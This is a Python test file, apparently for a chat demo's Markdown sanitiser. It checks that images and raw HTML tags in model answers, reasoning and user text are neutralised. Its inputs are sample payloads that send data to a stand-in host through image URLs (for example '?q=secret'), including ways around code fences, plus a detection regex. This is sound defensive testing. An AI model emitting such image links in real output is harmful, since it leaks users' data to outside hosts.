"""Markdown from outside shows no image a browser would fetch (issue 26): a model's answer and reasoning
(answer_markdown), a person's or a document's words (shown_as_text), through the chat box's messages (to_chatbot)."""

from __future__ import annotations

import re

import pytest

from demo.inputs.conversation import answer_markdown, shown_as_text, to_chatbot

# unescaped image syntax, or a raw tag, as Markdown would render them
RENDERED_IMAGE = re.compile(r"(?<!\\)!\[|(?<!\\)<(?:img|svg|picture|source|video|iframe)\b", re.I)


@pytest.mark.parametrize("text", [
    "look: ![pixel](https://evil.example/p.png?q=secret)",
    "![ref style][r]\n\n[r]: https://evil.example/r.png",
    '<img src="https://evil.example/i.png">',
    "<svg><image href='https://evil.example/s.png'/></svg>",
    "`a\n\n![across a paragraph](https://evil.example/x.png)\n\n`",  # not a code span: the image would render
    "```\ncode\n```\n![after a fence](https://evil.example/f.png)",
])
def test_no_image_or_tag_is_left_to_render(text):
    assert not RENDERED_IMAGE.search(answer_markdown(text))


def test_code_and_ordinary_markdown_are_left_as_they_are():
    kept = "**bold**, [a link](https://example.com), `![in code](x)`, a < b\n\n```html\n<img src=x>\n```\n"
    assert answer_markdown(kept) == kept


def test_a_persons_text_shows_an_image_as_text():
    assert shown_as_text("![x](https://evil.example/p.png)") == r"!\[x](https://evil.example/p.png)"


def test_the_chat_box_gets_no_image_from_any_turn():
    history = [{"role": "user", "content": "![u](https://evil.example/u.png)"},
               {"role": "assistant", "content": "![a](https://evil.example/a.png) <img src=https://evil.example/b.png>",
                "reasoning": "![t](https://evil.example/t.png)", "thinking_s": 1.0}]
    messages = to_chatbot(history)
    assert len(messages) == 3
    for message in messages:
        assert not RENDERED_IMAGE.search(message["content"]), message
